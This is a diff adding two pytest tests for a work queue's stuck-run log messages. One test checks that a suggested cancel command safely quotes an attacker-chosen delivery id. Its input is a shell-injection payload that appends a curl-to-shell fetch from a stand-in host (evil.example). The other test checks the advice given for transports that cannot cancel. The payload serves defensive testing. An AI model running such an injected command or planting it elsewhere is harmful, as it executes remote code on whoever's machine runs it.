@@ -68,3 +68,41 @@ def test_the_line_escapes_what_it_did_not_write_itself(caplog):
     (line,) = stuck_lines(caplog)
     assert "\n" not in line and "\\n2026-01-01" in line
     assert "orders.send" in line and "orders.email" in line and "30 s" in line
+
+
+def test_the_cancel_command_a_stuck_run_names_is_safe_to_paste(caplog):
+    """Review helper-150: the command went out as written, delivery id and all, and on a cloud
+    queue that id is the message's text, chosen by whoever may send to the queue: pasted, a
+    shell ran `curl ... | sh` after the discard (as helper-142 found of the replay command)."""
+    import shlex
+
+    caplog.set_level(logging.WARNING, logger="workqueue")
+    hostile = "x;curl${IFS}https://evil.example/p|sh"
+    StuckRunLog().report([run(hostile, 0.0)], now=30.0)
+
+    command = stuck_lines(caplog)[0].split("`")[1]
+    words = list(shlex.shlex(command, posix=True, punctuation_chars=True))
+    assert words[words.index("--delivery") + 1] == hostile, command
+    assert ";" not in words and "|" not in words
+
+
+def test_a_run_its_transport_cannot_cancel_is_told_what_can_stop_it(caplog):
+    """Review helper-150: on a transport without supports_cancel (AWS) the advice was a discard
+    that answers 'Nothing discarded'."""
+    caplog.set_level(logging.WARNING, logger="workqueue")
+    on_aws = HandlerRun(
+        key=("d1", "t1"),
+        subscription="orders.email",
+        delivery_id="d1",
+        handler_key="orders.send",
+        started_at=0.0,
+        threshold_seconds=10,
+        threshold_source="HANDLER_RUN_WARNING_SECONDS",
+        cancellable=False,
+    )
+
+    StuckRunLog().report([on_aws], now=30.0)
+
+    (line,) = stuck_lines(caplog)
+    assert "discard" not in line
+    assert "restart its host" in line and "max_processing_seconds" in line
